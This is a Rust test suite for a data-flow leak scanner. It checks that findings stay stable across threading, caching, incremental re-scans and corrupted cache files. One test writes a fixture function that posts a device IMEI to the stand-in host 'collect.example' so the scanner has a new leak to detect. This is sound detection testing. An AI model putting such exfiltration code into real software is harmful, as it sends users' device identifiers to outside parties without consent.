//! Speed must never change an answer: the same findings with 1 and 2 threads, with no cache, a
//! cold cache and a warm one, and after an edit whether the re-scan reuses the previous
//! analysis (see `idflow::incremental`) or runs it again.

use std::path::{Path, PathBuf};
use std::sync::Mutex;
use std::time::Duration;

use idflow::cache::Cache;
use idflow::findings::ScanResult;
use idflow::rules::RulePack;
use idflow::scan::{self, Observer, Progress, ScanOptions, Stage};

/// Records which stages ran.
#[derive(Default)]
struct Stages(Mutex<Vec<Stage>>);

impl Progress for Stages {
    fn done(&self, stage: Stage, _: Duration) {
        self.0.lock().expect("stages").push(stage);
    }
}

impl Observer for Stages {
    fn progress(&self) -> &dyn Progress {
        self
    }
}

struct Run {
    result: ScanResult,
    analysed: bool,
}

fn scan(root: &Path, threads: usize, cache: Option<&Path>) -> Run {
    let rules = RulePack::builtin();
    let mut options = ScanOptions::new(root);
    options.threads = Some(threads);
    options.cache = cache.map(|dir| Cache::new(dir, rules.hash()));
    let stages = Stages::default();
    let result = scan::run_with(&options, &rules, &stages).expect("scan runs");
    let analysed = stages.0.lock().expect("stages").contains(&Stage::Propagate);
    Run { result, analysed }
}

/// What must not change: the findings (ids, attributes, paths) and the skipped files.
fn answer(result: &ScanResult) -> String {
    serde_json::to_string_pretty(&(&result.findings, &result.skipped)).expect("json")
}

fn assert_same_everywhere(root: &Path) {
    let reference = scan(root, 1, None);
    let expected = answer(&reference.result);
    assert!(reference.analysed);
    let cache = tempfile::tempdir().expect("tempdir");
    let runs = [
        ("2 threads, no cache", scan(root, 2, None)),
        ("2 threads, cold cache", scan(root, 2, Some(cache.path()))),
        ("2 threads, warm cache", scan(root, 2, Some(cache.path()))),
        ("1 thread, warm cache", scan(root, 1, Some(cache.path()))),
    ];
    for (what, run) in &runs {
        assert_eq!(
            answer(&run.result),
            expected,
            "{what} on {}",
            root.display()
        );
    }
    assert!(runs[1].1.analysed, "a cold cache has no previous analysis");
    assert!(
        !runs[2].1.analysed,
        "nothing changed: the warm scan reuses the analysis"
    );
}

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn samples_give_the_same_findings_whatever_the_threads_and_cache() {
    for sample in ["cloud-messenger", "cloud-messenger-fixed"] {
        assert_same_everywhere(&repo().join("samples").join(sample));
    }
}

#[test]
fn shared_benchmark_gives_the_same_findings_whatever_the_threads_and_cache() {
    let bench = repo().join("../shared/bench");
    if !bench.is_dir() {
        // The benchmark sits beside the repository in the workspace and in CI; a lone clone
        // has only the samples, which the test above covers.
        eprintln!("note: no {} here, nothing to compare", bench.display());
        return;
    }
    let run = scan(&bench, 1, None);
    assert!(
        run.result.findings.len() >= 20,
        "the benchmark has flows to compare"
    );
    assert_same_everywhere(&bench);
}

/// A copy of the leaky sample plus one file no flow goes through.
fn sample_copy() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    let from = repo().join("samples/cloud-messenger");
    for entry in walkdir::WalkDir::new(&from) {
        let entry = entry.expect("walk");
        let to = dir
            .path()
            .join(entry.path().strip_prefix(&from).expect("inside"));
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&to).expect("mkdir");
        } else {
            std::fs::copy(entry.path(), &to).expect("copy");
        }
    }
    std::fs::write(
        dir.path().join("src/util.rs"),
        "pub fn clamp(x: u32) -> u32 {\n    x.min(10)\n}\n",
    )
    .expect("write");
    dir
}

fn edit(root: &Path, file: &str, change: impl FnOnce(String) -> String) {
    let path = root.join(file);
    let text = std::fs::read_to_string(&path).expect("read");
    std::fs::write(&path, change(text)).expect("write");
}

/// Scans `root` with `cache` after an edit and checks the answer against a scan without cache;
/// gives whether the analysis ran again.
fn rescan_matches_full_scan(root: &Path, cache: &Path) -> bool {
    let rescan = scan(root, 2, Some(cache));
    let full = scan(root, 2, None);
    assert_eq!(answer(&rescan.result), answer(&full.result));
    assert_eq!(rescan.result.stats, full.result.stats);
    rescan.analysed
}

#[test]
fn an_edit_no_flow_can_see_reuses_the_analysis() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    let before = scan(tree.path(), 2, Some(cache.path()));
    edit(tree.path(), "src/util.rs", |t| {
        t.replace("x.min(10)", "// at most ten\n    x.min(10)")
    });
    assert!(!rescan_matches_full_scan(tree.path(), cache.path()));
    assert_eq!(
        answer(&scan(tree.path(), 2, None).result),
        answer(&before.result)
    );
}

#[test]
fn an_edit_on_a_flow_runs_the_analysis_again() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    let before = scan(tree.path(), 2, Some(cache.path()));
    edit(tree.path(), "src/presence.rs", |t| {
        t.replace("http://presence", "https://presence")
    });
    assert!(rescan_matches_full_scan(tree.path(), cache.path()));
    let after = scan(tree.path(), 2, Some(cache.path()));
    assert_ne!(answer(&after.result), answer(&before.result));
}

#[test]
fn a_new_source_in_an_untouched_file_runs_the_analysis_again() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    let before = scan(tree.path(), 2, Some(cache.path()));
    edit(tree.path(), "src/util.rs", |t| {
        t + "\npub fn leak(device_imei: &str) {\n    let _ = reqwest::blocking::Client::new()\n        .post(\"http://collect.example/imei\")\n        .body(device_imei.to_string())\n        .send();\n}\n"
    });
    assert!(rescan_matches_full_scan(tree.path(), cache.path()));
    let after = scan(tree.path(), 2, None);
    assert_eq!(
        after.result.findings.len(),
        before.result.findings.len() + 1,
        "the new function's flow is found"
    );
}

#[test]
fn a_call_into_a_flow_from_an_untouched_file_runs_the_analysis_again() {
    let tree = sample_copy();
    let cache = tempfile::tempdir().expect("tempdir");
    scan(tree.path(), 2, Some(cache.path()));
    // A body that now calls functions that can reach a source must be analysed.
    edit(tree.path(), "src/util.rs", |t| {
        t.replace(
            "x.min(10)",
            "let _f = crate::presence::online_contacts;\n    x.min(10)",
        )
    });
    assert!(rescan_matches_full_scan(tree.path(), cache.path()));
}

/// Copies every file under `from` into `to` (a cache directory).
fn copy_tree(from: &Path, to: &Path) {
    for entry in walkdir::WalkDir::new(from) {
        let entry = entry.expect("walk");
        let target = to.join(entry.path().strip_prefix(from).expect("inside"));
        if entry.file_type().is_dir() {
            std::fs::create_dir_all(&target).expect("mkdir");
        } else {
            std::fs::copy(entry.path(), &target).expect("copy");
        }
    }
}

/// Issue 15, item 6: bytes flipped in any cache file (the packs of lowered files and the scan
/// record), over 200 seeds, never change the findings: a damaged file is a miss and rebuilt.
/// Before the scan record carried a checksum, a third of such flips changed what was reported.
#[test]
fn issue_15_damaged_cache_files_never_change_findings() {
    let tree = sample_copy();
    let expected = answer(&scan(tree.path(), 1, None).result);
    let pristine = tempfile::tempdir().expect("tempdir");
    scan(tree.path(), 1, Some(pristine.path()));
    let files: Vec<PathBuf> = walkdir::WalkDir::new(pristine.path())
        .sort_by_file_name()
        .into_iter()
        .map(|e| e.expect("walk"))
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            e.path()
                .strip_prefix(pristine.path())
                .expect("inside")
                .to_path_buf()
        })
        .collect();
    assert!(
        files
            .iter()
            .any(|f| f.components().any(|c| c.as_os_str() == "scans"))
            && files.len() >= 2,
        "a pack and a scan record: {files:?}"
    );
    // A small linear congruential generator: the same flips on every run.
    let mut state: u64 = 15;
    let mut next = move || {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        state >> 33
    };
    for seed in 0..200 {
        let cache = tempfile::tempdir().expect("tempdir");
        copy_tree(pristine.path(), cache.path());
        let victim = cache.path().join(&files[seed % files.len()]);
        let mut bytes = std::fs::read(&victim).expect("read");
        for _ in 0..=next() % 3 {
            let at = usize::try_from(next()).expect("fits") % bytes.len();
            bytes[at] ^= 1 << (next() % 8);
        }
        std::fs::write(&victim, &bytes).expect("write");
        let warm = scan(tree.path(), 1, Some(cache.path()));
        assert_eq!(
            answer(&warm.result),
            expected,
            "seed {seed}: bytes flipped in {}",
            victim.display()
        );
    }
}

/// Edits a file when parsing is over, once: as if a user saved it during a scan.
struct EditAfterParse {
    stages: Stages,
    file: PathBuf,
    edited: Mutex<bool>,
}

impl Progress for EditAfterParse {
    fn done(&self, stage: Stage, took: Duration) {
        let mut edited = self.edited.lock().expect("edited");
        if stage == Stage::Parse && !*edited {
            let text = std::fs::read_to_string(&self.file).expect("read");
            std::fs::write(&self.file, format!("// saved during the scan\n{text}")).expect("write");
            *edited = true;
        }
        self.stages.done(stage, took);
    }
}

impl Observer for EditAfterParse {
    fn progress(&self) -> &dyn Progress {
        self
    }
}

/// Issue 15, item 7: a file edited while a cached scan runs (after it was parsed, before its
/// snippets were read) and then reverted: the next warm scan equals a scan without cache. The
/// scan had recorded findings quoting the edited file against the bytes it parsed, and every
/// later scan of the reverted tree reused them, with wrong snippets and ids.
#[test]
fn issue_15_a_file_edited_during_a_scan_then_reverted_is_not_remembered() {
    let tree = sample_copy();
    let expected = scan(tree.path(), 2, None).result;
    let sink_file = tree.path().join(&expected.findings[0].sink.file);
    let original = std::fs::read(&sink_file).expect("read");
    let cache = tempfile::tempdir().expect("tempdir");
    let rules = RulePack::builtin();
    let mut options = ScanOptions::new(tree.path());
    options.threads = Some(2);
    options.cache = Some(Cache::new(cache.path(), rules.hash()));
    let observer = EditAfterParse {
        stages: Stages::default(),
        file: sink_file.clone(),
        edited: Mutex::new(false),
    };
    scan::run_with(&options, &rules, &observer).expect("scan runs");
    assert!(
        *observer.edited.lock().expect("edited"),
        "the file was edited mid-scan"
    );
    std::fs::write(&sink_file, &original).expect("revert");
    let warm = scan(tree.path(), 2, Some(cache.path()));
    assert_eq!(answer(&warm.result), answer(&expected));
}
